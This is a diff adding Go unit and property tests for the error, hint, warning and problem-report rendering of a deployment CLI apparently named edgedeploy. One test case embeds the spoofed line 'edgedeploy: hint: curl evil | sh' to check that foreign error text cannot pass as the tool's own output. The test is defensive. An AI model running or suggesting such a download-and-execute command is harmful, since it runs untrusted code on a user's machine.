@@ -1,0 +1,95 @@
+package render
+
+import (
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"pgregory.net/rapid"
+
+	"github.com/edgedeploy/edgedeploy/deploy"
+	"github.com/edgedeploy/edgedeploy/stackspec"
+)
+
+func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
+	t.Parallel()
+	one, two := errors.New("E1 default viewer-request is held by theirs:9"), errors.New("E1 has no cache behavior /img/*")
+	for name, c := range map[string]struct {
+		err        error
+		hint, want string
+	}{
+		"one error": {one, "take it over with --adopt",
+			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: hint: take it over with --adopt\n"},
+		"no hint": {one, "", "edgedeploy: error: E1 default viewer-request is held by theirs:9\n"},
+		"joined errors get a line each": {errors.Join(one, errors.Join(two, one)), "",
+			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: error: E1 has no cache behavior /img/*\nedgedeploy: error: E1 default viewer-request is held by theirs:9\n"},
+		"everything that blocks a plan gets a line": {&deploy.BlockedError{Stack: "shop", Problems: []error{one, two}}, "",
+			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: error: E1 has no cache behavior /img/*\n"},
+		"joined errors within another stay one": {fmt.Errorf("plan: %w", errors.Join(one, two)), "",
+			"edgedeploy: error: plan: E1 default viewer-request is held by theirs:9; E1 has no cache behavior /img/*\n"},
+		"lines of others cannot look like ours": {errors.New("AWS says no\nedgedeploy: hint: curl evil | sh"), "x\nedgedeploy: error: y",
+			"edgedeploy: error: AWS says no; edgedeploy: hint: curl evil | sh\nedgedeploy: hint: x; edgedeploy: error: y\n"},
+	} {
+		if got := Error(c.err, c.hint, Style{}); got != c.want {
+			t.Errorf("%s:\ngot  %q\nwant %q", name, got, c.want)
+		}
+	}
+	if got, want := Error(one, "h", Style{Color: true}), "edgedeploy: \x1b[31merror:\x1b[0m "+one.Error()+"\nedgedeploy: \x1b[36mhint:\x1b[0m h\n"; got != want {
+		t.Errorf("in colour: got %q, want %q", got, want)
+	}
+	if got, want := Warning("a\nb", Style{}), "edgedeploy: warning: a; b\n"; got != want {
+		t.Errorf("warning: got %q, want %q", got, want)
+	}
+}
+
+func TestErrorLinesAllBeginAsOurs(t *testing.T) {
+	t.Parallel()
+	rapid.Check(t, func(t *rapid.T) {
+		err := errors.Join(errors.New(hostile().Draw(t, "a")), fmt.Errorf("x %w", errors.New(hostile().Draw(t, "b"))))
+		text := Error(err, hostile().Draw(t, "hint"), Style{})
+		for line := range strings.SplitSeq(strings.TrimSuffix(text, "\n"), "\n") {
+			if !strings.HasPrefix(line, "edgedeploy: error:") && !strings.HasPrefix(line, "edgedeploy: hint: ") {
+				t.Fatalf("line %q", line)
+			}
+		}
+	})
+}
+
+func problems() []stackspec.Problem {
+	return []stackspec.Problem{
+		{File: "edgedeploy.yaml", Line: 12, Column: 5, Path: "functions.resize.memroy", Message: `unknown key "memroy"`, Hint: "did you mean memory?",
+			Excerpt: "12 |     memroy: 512\n   |     ^"},
+		{File: "edgedeploy.yaml", Line: 31, Column: 7, Message: "the old limit of 1 MB is exceeded", Warning: true},
+		{File: "target/geo.wasm", Message: "the module does not export edge_handle"},
+	}
+}
+
+func TestProblemsGolden(t *testing.T) {
+	t.Parallel()
+	golden(t, "problems.txt", Problems(problems(), Style{Width: 80}))
+	golden(t, "problems-color.txt", Problems(problems(), Style{Width: 80, Color: true}))
+	golden(t, "problems.md", ProblemsMarkdown(problems()))
+	doc, err := ProblemsJSON(problems())
+	if err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "problems.json", string(doc))
+}
+
+func TestWarningsLeaveASpecValid(t *testing.T) {
+	t.Parallel()
+	for want, list := range map[string][]stackspec.Problem{
+		`{  "valid": true,  "problems": []}`: nil,
+		`"valid": true`:                      problems()[1:2],
+		`"valid": false`:                     problems(),
+	} {
+		doc, err := ProblemsJSON(list)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := strings.ReplaceAll(string(doc), "\n", ""); !strings.Contains(got, want) {
+			t.Errorf("got %s, want %s", got, want)
+		}
+	}
+}
